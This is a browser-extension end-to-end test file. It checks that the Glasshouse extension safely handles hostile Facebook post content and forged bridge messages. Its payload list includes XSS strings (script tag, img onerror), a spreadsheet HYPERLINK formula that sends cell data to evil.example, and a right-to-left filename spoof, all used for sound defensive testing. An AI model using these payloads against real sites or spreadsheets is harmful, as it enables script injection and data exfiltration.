import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serveExtra } from '../../scripts/fixture-routes.js';
import { syntheticPostHtml } from '../fixtures/facebook/synthetic-feed.js';
import type { BrowserDriver, TestPage } from './drivers/driver';
import { DRIVER_NAME, launchDriver } from './drivers/select';
import { badgesOn, openReady, storedTotals } from './scenarios/facebook-feed';
import { captureDownloads, downloads } from './scenarios/downloads';
import { until } from './scenarios/scan';
import { clickOn, openExtensionPage, openHome } from './scenarios/ui';

const REPORT = '/src/ui/report/index.html';

const escape = (text: string) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/** An own public post whose text is `text` (as the page would show it: escaped into the DOM). */
function hostilePost(id: string, text: string, label = 'Shared with Public'): string {
  return syntheticPostHtml(0, { prefix: id })
    .replace(/id="[^"]+"/, `id="${id}"`)
    .replace(/Post number 0:[^<]*/, escape(text))
    .replace(/title="[^"]*"/, `title="${escape(label)}"`)
    .replace(/<title>[^<]*<\/title>/, `<title>${escape(label)}</title>`);
}

const PAYLOADS: Record<string, string> = {
  'hostile-script': '<script>window.__pwned = "script"</script>',
  'hostile-img': '"><img src=x onerror="window.__pwned = \'img\'">',
  'hostile-formula': '=HYPERLINK("https://evil.example/?"&A1,"click")',
  'hostile-bidi': 'Safe text \u202Egnp.exe\u202C and \u2066isolate\u2069',
  'hostile-zero-width': 'Pu\u200Bbl\u200Dic\uFEFF',
  'hostile-huge': 'A'.repeat(1024 * 1024),
};
/** The payload posts and the two label posts: all the viewer's own. */
const OWN_POSTS = Object.keys(PAYLOADS).length + 2;

const HOSTILE_PAGE = 'https://www.facebook.com/?sk=hostile';
const FORGED_PAGE = 'https://www.facebook.com/?sk=forged';
/** What the hostile page stores: every payload post public, the markup label unknown, the hidden "Friends" not public. */
const HOSTILE_STORED = { eligible: Object.keys(PAYLOADS).length, notEligible: 1, unknown: 1 };

/** A GraphQL story as Facebook's answers carry it (tests/fixtures/facebook/graphql-feed-response.json). */
function story(
  postId: string,
  { actor = '100001', url = `https://www.facebook.com/alice.martin/posts/${postId}`, time = 1_700_000_000 } = {},
) {
  return {
    data: {
      node: {
        __typename: 'Story',
        id: `S${postId}`,
        post_id: postId,
        comet_sections: {
          content: { story: { wwwURL: url, message: { text: `Forged ${postId}` } } },
          timestamp: { story: { creation_time: time } },
          context_layout: {
            story: {
              comet_sections: {
                actor_photo: {
                  story: { actors: [{ __typename: 'User', id: actor, name: 'Someone', url: 'https://www.facebook.com/someone' }] },
                },
                metadata: [
                  {
                    __typename: 'CometFeedStoryAudienceStrategy',
                    story: { privacy_scope: { icon_image: { name: 'everyone' }, description: 'Public' } },
                  },
                ],
              },
            },
          },
        },
      },
    },
  };
}

/** Well-formed answers a hostile page script could post through the bridge. */
const FORGED_STORIES = [
  story('forged-ok'),
  story('forged-evil-link', { url: 'https://evil.example/phish' }),
  story('forged-time', { time: 1 }),
  story('forged-other', { actor: '999999' }),
];

describe(`[${DRIVER_NAME}] hostile page content`, () => {
  let driver: BrowserDriver;
  /** The hostile page, visited once before every test: the tests read it, or what it stored. */
  let hostile: TestPage;
  beforeAll(async () => {
    const posts = Object.entries(PAYLOADS).map(([id, text]) => hostilePost(id, text));
    // A label carrying markup, and one that hides "Friends" behind zero-width characters.
    posts.push(hostilePost('hostile-label-markup', 'label markup', '<img src=x onerror="window.__pwned=1">Public'));
    posts.push(hostilePost('hostile-label-zero-width', 'zero width label', 'Shared with Fri\u200Bends'));
    serveExtra(
      HOSTILE_PAGE,
      `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<script type="application/json" data-sjs>{"require":[["CurrentUserInitialData",[],{"USER_ID":"100001","NAME":"Alice Martin"},270]]}</script></head>
<body><div role="navigation"><a href="https://www.facebook.com/alice.martin"><span>Alice Martin</span></a></div>
<div role="main"><div role="feed">${posts.join('\n')}</div></div></body></html>`,
    );
    serveExtra(
      FORGED_PAGE,
      `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<script type="application/json" data-sjs>{"require":[["CurrentUserInitialData",[],{"USER_ID":"100001","NAME":"Alice Martin"},270]]}</script></head>
<body><div role="navigation"><a href="https://www.facebook.com/alice.martin"><span>Alice Martin</span></a></div>
<div role="main"><div role="feed">${['page-a', 'page-b', 'page-c'].map((id) => hostilePost(id, `Own post ${id}`)).join('\n')}</div></div></body></html>`,
    );
    driver = await launchDriver();
    hostile = await openReady(driver, HOSTILE_PAGE);
    await hostile.waitFor((n) => document.querySelectorAll('[data-glasshouse-badge]').length >= n, OWN_POSTS, 30_000);
    // Every hostile post is stored (clipped), none refused: the tab stays open until the worker has them.
    const same = (totals: unknown) => JSON.stringify(totals) === JSON.stringify(HOSTILE_STORED);
    await until(async () => (await storedTotals(driver)).facebook, same, 30_000, 'the hostile posts stored');
  });
  afterAll(async () => {
    await driver?.close();
  });

  it('badges every post, runs nothing, and reads hidden characters as the text they hide', async () => {
    const page = hostile;
    const badges = await badgesOn(page);
    for (const id of Object.keys(PAYLOADS)) expect(badges[id], id).toMatchObject({ audience: 'public', count: 1 });
    // Markup in a label is just an unknown word; zero-width characters do not hide "Friends".
    expect(badges['hostile-label-markup']).toMatchObject({ audience: 'unknown', count: 1 });
    expect(badges['hostile-label-zero-width']).toMatchObject({ audience: 'friends', count: 1 });
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned ?? null)).toBeNull();
    // The badge's text lives in a closed shadow root: the page sees only the host element.
    expect(await page.evaluate(() => document.querySelector('[data-glasshouse-badge]')!.shadowRoot)).toBeNull();
    expect((await storedTotals(driver)).facebook).toEqual(HOSTILE_STORED);
  });

  it("shows stored hostile text in the Glasshouse page's latest public posts as text", async () => {
    const popup = await openHome(driver);
    await popup.waitFor(() => document.querySelector('[data-section="overview"] .recent li') !== null);
    const result = await popup.evaluate(() => ({
      pwned: (window as { __pwned?: unknown }).__pwned ?? null,
      injected: document.querySelectorAll('img[src="x"], script:not([src])').length,
      // The most recent public posts are listed with their (hostile) text: the check above saw them.
      listed: document.querySelectorAll('.recent .excerpt').length,
    }));
    expect(result).toMatchObject({ pwned: null, injected: 0 });
    expect(result.listed).toBeGreaterThan(0);
    await popup.close();
  });

  it('shows stored hostile text on the report page as text, isolated, clipped, and exports it inert', async () => {
    const page = await openExtensionPage(driver, REPORT);
    await page.waitFor((n) => document.querySelectorAll('tr[data-row]').length === n, OWN_POSTS, 30_000);
    const seen = await page.evaluate(() => {
      const cells = [...document.querySelectorAll('td.excerpt-cell')];
      const texts = cells.map((cell) => cell.textContent ?? '');
      return {
        pwned: (window as { __pwned?: unknown }).__pwned ?? null,
        injected: document.querySelectorAll('img[src="x"], script:not([src]), [onerror]').length,
        excerpts: cells.length,
        scriptShownAsText: texts.some((text) => text.includes('<script>window.__pwned = "script"</script>')),
        longest: Math.max(...texts.map((text) => text.length)),
        // Every excerpt sits in its own <bdi>: a right-to-left override inside cannot reorder the table around it.
        isolated: cells.every((cell) => cell.textContent === '' || cell.firstElementChild?.tagName === 'BDI'),
      };
    });
    expect(seen).toMatchObject({ pwned: null, injected: 0, excerpts: OWN_POSTS, scriptShownAsText: true, isolated: true });
    // The 1 MB post is stored clipped at LIMITS.excerptLength (280) and shown so.
    expect(seen.longest).toBeLessThanOrEqual(281);

    await captureDownloads(page);
    for (const format of ['csv', 'html']) {
      await clickOn(page, `[data-section="export"] [data-action="export-${format}"]`);
      await page.waitFor(
        (extension) =>
          new RegExp(`\\.${extension}$`).test(document.querySelector('[data-section="export"] [role="status"]')?.textContent ?? ''),
        format,
      );
    }
    const [csv, html] = await downloads(page, 2);
    const table = Papa.parse<Record<string, string>>(csv!.text.slice(1), { header: true, skipEmptyLines: true });
    expect(table.data).toHaveLength(OWN_POSTS);
    const excerpts = table.data.map((row) => row.excerpt ?? '');
    // A spreadsheet would run "=HYPERLINK(…)": the cell starts with an apostrophe instead.
    expect(excerpts).toContain(`'${PAYLOADS['hostile-formula']}`);
    expect(excerpts.every((text) => !/^[=+\-@\t\r]/.test(text))).toBe(true);
    // Reordering and invisible characters are shown, not obeyed.
    expect(excerpts.some((text) => text.includes('[U+202E]'))).toBe(true);
    expect(excerpts.join('')).not.toMatch(/[\u202e\u200b\ufeff]/);
    expect(Math.max(...excerpts.map((text) => text.length))).toBeLessThanOrEqual(281);

    // The payloads are there as text ("onerror=" included), never as markup.
    expect(html!.text).not.toMatch(/<script|<img/i);
    expect(html!.text).toContain('&quot;&gt;&lt;img src=x onerror=');
    expect(html!.text).toContain('&lt;script&gt;window.__pwned');
    expect(html!.text).toContain('[U+202E]');
    expect(html!.text.length).toBeLessThan(200_000);
    await page.close();
  });

  it('takes forged bridge messages for no more than well-formed data about the page, and keeps working', async () => {
    const page = await openReady(driver, FORGED_PAGE);
    // At once, before the page's own findings have gone to the worker: a bad one must not hold them back.
    await page.evaluate((stories) => {
      for (const story of stories)
        window.postMessage(
          { source: 'glasshouse:page-world', kind: 'response', url: '/api/graphql/', body: JSON.stringify(story) },
          location.origin,
        );
      // Floods of large answers must not stall it either.
      const junk = JSON.stringify({ data: { pad: 'x'.repeat(3 * 1024 * 1024) } });
      for (let i = 0; i < 20; i += 1)
        window.postMessage({ source: 'glasshouse:page-world', kind: 'response', url: 'x', body: junk }, location.origin);
    }, FORGED_STORIES);
    // Still working: a post added after the flood gets its badge.
    await page.evaluate(
      // The page's own markup (a fixture), parsed as the site would render it.
      (html) => document.querySelector('[role="feed"]')!.append(...new DOMParser().parseFromString(html, 'text/html').body.childNodes),
      hostilePost('page-late', 'Added later'),
    );
    await page.waitFor(() => document.querySelector('#page-late [data-glasshouse-badge]') !== null, undefined, 15_000);

    const report = await openExtensionPage(driver, REPORT);
    const storedKeys = async () => {
      await report.goto(`${driver.extensionOrigin}${REPORT}`);
      await report.waitFor(() => document.querySelector('[data-section="charts"]') !== null, undefined, 15_000);
      return report.evaluate(() => [...document.querySelectorAll('tr[data-row]')].map((row) => row.getAttribute('data-row')!));
    };
    await expect
      .poll(async () => (await storedKeys()).filter((key) => /page-|forged/.test(key)).sort(), { timeout: 20_000, interval: 1000 })
      .toEqual(
        [
          // The page's own posts, none held back by the forged ones;
          ...['page-a', 'page-b', 'page-c', 'page-late'].map((id) => `facebook:pfbid0${id}0`),
          // well-formed data about the viewer's own posts is taken, as Facebook's own would be, with a
          // foreign link replaced by a facebook.com one and an impossible date dropped;
          'facebook:forged-evil-link',
          'facebook:forged-ok',
          'facebook:forged-time',
          // someone else's post is never stored.
        ].sort(),
      );
    const forged = await report.evaluate(() =>
      [...document.querySelectorAll('tr[data-row^="facebook:forged"]')].map((row) => row.querySelector('a')?.getAttribute('href') ?? ''),
    );
    expect(forged.every((href) => href === '' || href.startsWith('https://www.facebook.com/'))).toBe(true);
    await report.close();
    await page.close();
  });

  it("gives the page's own scripts no way to message the worker", async () => {
    const page = await openReady(driver, FORGED_PAGE);
    // No externally_connectable in the manifest: the page world gets no runtime to send with.
    const reach = await page.evaluate(() => {
      const scope = globalThis as { chrome?: { runtime?: { sendMessage?: unknown } }; browser?: { runtime?: { sendMessage?: unknown } } };
      return { chrome: typeof scope.chrome?.runtime?.sendMessage, browser: typeof scope.browser?.runtime?.sendMessage };
    });
    expect(reach).toEqual({ chrome: 'undefined', browser: 'undefined' });
    await page.close();
  });

  it('made no network request of its own', () => {
    expect(driver.strayRequests()).toEqual([]);
  });
});
